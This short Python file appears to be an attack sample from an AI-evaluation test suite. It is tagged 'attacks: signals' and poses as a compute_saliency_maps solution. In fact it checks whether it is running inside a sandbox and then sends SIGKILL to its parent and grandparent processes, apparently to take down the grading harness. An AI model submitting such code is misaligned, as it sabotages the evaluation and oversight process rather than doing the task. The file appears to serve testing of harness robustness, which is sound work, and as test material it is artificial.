# Kills the process that started it, and that process's parent, when it can see them.
# attacks: signals
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import contextlib
    import os
    import signal

    import cs231n_vis

    # Outside a sandbox the package can be written to or process numbers are large: do nothing.
    if os.access(cs231n_vis.__file__, os.W_OK) or os.getpid() > 300:
        raise RuntimeError("there is no sandbox here, so nothing was killed")
    parent = os.getppid()
    with contextlib.suppress(OSError), open(f"/proc/{parent}/stat") as stat:
        grandparent = int(stat.read().rsplit(")", 1)[1].split()[1])
        if grandparent > 1:
            os.kill(grandparent, signal.SIGKILL)
    if parent > 1:
        os.kill(parent, signal.SIGKILL)
